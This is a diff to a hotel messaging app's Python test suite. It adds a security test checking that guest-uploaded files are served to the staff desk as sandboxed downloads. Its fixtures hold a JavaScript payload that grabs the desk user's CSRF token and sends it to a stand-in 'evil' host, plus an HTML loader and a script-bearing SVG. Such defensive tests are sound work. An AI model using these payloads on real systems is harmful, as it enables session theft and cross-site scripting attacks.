@@ -18,12 +18,26 @@ from hotelbox.channels.webchat import WebChatChannel
 from hotelbox.config import Settings
 from hotelbox.daemon import Box, conversation_for
 from hotelbox.events import EventBus
+from hotelbox.messages import Inbound
 from hotelbox.web.app import make_app
 from hotelbox.web.auth import add_user, hash_password
 from tests.conftest import Guest, RecordingChannel, hotel_today
 
 PASSWORD = "correct-horse-battery"
-MONTHS_EN = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"]
+MONTHS_EN = [
+    "January",
+    "February",
+    "March",
+    "April",
+    "May",
+    "June",
+    "July",
+    "August",
+    "September",
+    "October",
+    "November",
+    "December",
+]
 
 
 def say_date(d: date) -> str:
@@ -132,7 +146,8 @@ async def test_the_try_page_is_off_by_default_with_a_real_pms(site: Site, settin
                 assert body["error"] == "try_page_off"
                 assert "web.try_page" in body["message"]
     row = await site.box.store.fetchone("SELECT count(*) AS n FROM inbox")
-    assert row is not None and row["n"] == 0
+    assert row is not None
+    assert row["n"] == 0
     from hotelbox.web.app import try_page_mode
 
     assert try_page_mode(settings) == "off"
@@ -140,3 +155,63 @@ async def test_the_try_page_is_off_by_default_with_a_real_pms(site: Site, settin
     assert try_page_mode(demo) == "public"  # make run: anyone may try the demo hotel
     opened = settings.model_copy(update={"web": settings.web.model_copy(update={"try_page": "public"})})
     assert try_page_mode(opened) == "public"  # a real hotel that opens it on purpose
+
+
+# -- finding 2: guest files never run as the desk ----------------------------------------------------
+async def guest_sends_file(site: Site, address: str, n: int, data: bytes, mime: str, suffix: str) -> int:
+    """A guest's document or media as the WhatsApp intake stores it once downloaded."""
+    path = site.box.settings.media_dir / "in" / f"{uuid.uuid4().hex}{suffix}"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data)
+    accepted = await site.box.pipeline.accept(
+        Inbound(
+            channel="test",
+            channel_message_id=f"{address}-file-{n}",
+            sender=address,
+            kind="document",
+            phone=address,
+            payload={"media": {"path": str(path), "mime_type": mime, "size": len(data)}},
+        )
+    )
+    await site.box.settle(accepted.conversation_id)
+    assert accepted.message_id is not None
+    return accepted.message_id
+
+
+async def test_a_guests_html_and_script_are_never_served_as_the_desks_own(site: Site) -> None:
+    guest = "+34600777001"
+    script_id = await guest_sends_file(
+        site,
+        guest,
+        1,
+        b"fetch('/desk/api/me').then(r => r.json()).then(me => location = '//evil/' + me.csrf)",
+        "application/javascript",
+        ".js",
+    )
+    page = f'<html><script src="/desk/api/audio/{script_id}"></script></html>'.encode()
+    page_id = await guest_sends_file(site, guest, 2, page, "text/html; charset=utf-8", ".html")
+    svg_id = await guest_sends_file(
+        site,
+        guest,
+        3,
+        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+        "image/svg+xml",
+        ".svg",
+    )
+    photo_id = await guest_sends_file(
+        site, guest, 4, b"\xff\xd8\xff\xe0 not really a jpeg", "image/jpeg", ".jpg"
+    )
+    http, _csrf = await site.login("ana")
+    async with http:
+        for message_id in (script_id, page_id, svg_id):
+            async with http.get(f"{site.url}/desk/api/audio/{message_id}") as r:
+                assert r.status == 200
+                assert r.headers["Content-Type"] == "application/octet-stream", r.headers["Content-Type"]
+                assert r.headers["Content-Disposition"].startswith("attachment"), message_id
+                assert r.headers["X-Content-Type-Options"] == "nosniff"
+                assert "sandbox" in r.headers["Content-Security-Policy"]
+        async with http.get(f"{site.url}/desk/api/audio/{photo_id}") as r:  # allowed: shown as what it is
+            assert r.status == 200
+            assert r.headers["Content-Type"] == "image/jpeg"
+            assert r.headers["Content-Disposition"] == "inline"
+            assert "sandbox" in r.headers["Content-Security-Policy"]
